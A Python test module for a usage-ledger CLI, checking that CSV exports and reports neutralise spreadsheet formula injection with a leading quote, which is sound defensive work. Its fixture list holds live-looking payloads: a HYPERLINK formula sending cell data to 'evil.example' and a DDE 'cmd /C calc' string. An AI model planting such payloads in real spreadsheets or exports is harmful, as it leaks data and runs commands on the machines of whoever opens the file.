"""CSV cells a spreadsheet would run are neutralised (#52 point 9): a run named `=HYPERLINK(…)` or `@SUM(…)`
is written `'=HYPERLINK(…)` by `ledger export --format csv` and `ledger report … --format csv` (OWASP's rule:
a leading `'` before = + - @ tab CR); numbers stay numbers; JSONL keeps the exact name."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from usage_ledger.answers import csv_cell
from usage_ledger.cli import main

RUNS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
"""Names a call can carry (`ledger import` refuses control characters: a leading tab or CR is the property test's)."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_a_text_cell_never_starts_as_a_formula_and_keeps_its_text(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(TRIGGERS)
    assert cell == ("'" + text if text.startswith(TRIGGERS) else text)


@given(st.integers() | st.floats(allow_nan=False))
def test_numbers_stay_numbers(value: float) -> None:
    assert csv_cell(value) == value


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_and_reports_write_no_cell_a_spreadsheet_runs(
    backend_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "runs.jsonl"
    source.write_bytes(
        b"".join(
            msgspec.json.encode(
                {
                    "started_at": f"2026-03-01T0{i}:00:00Z",
                    "elapsed_s": 5,
                    "input_tokens": 10,
                    "output_tokens": 2,
                    "run": run,
                    "ticker": run,
                }
            )
            + b"\n"
            for i, run in enumerate(RUNS)
        )
    )
    assert main(["db", "upgrade", "--db", backend_url]) == 0
    assert main(["import", str(source), "--db", backend_url]) == 0
    out = tmp_path / "calls.csv"
    assert main(["export", "--format", "csv", "--output", str(out), "--db", backend_url]) == 0
    exported = _rows(out.read_text())
    assert sorted(r["run"] for r in exported) == sorted("'" + run for run in RUNS)
    assert sorted(r["ticker"] for r in exported) == sorted("'" + run for run in RUNS)
    for report in ("runs", "tickers"):
        capsys.readouterr()
        assert main(["report", report, "--format", "csv", "--db", backend_url]) == 0
        rows = _rows(capsys.readouterr().out)
        assert sorted(r["run"] for r in rows) == sorted("'" + run for run in RUNS), report
        assert all(not cell.startswith(TRIGGERS) for r in rows for cell in r.values() if cell), report
    jsonl = tmp_path / "calls.jsonl"
    assert main(["export", "--format", "jsonl", "--output", str(jsonl), "--db", backend_url]) == 0
    assert sorted(json.loads(line)["run"] for line in jsonl.read_text().splitlines()) == sorted(RUNS)
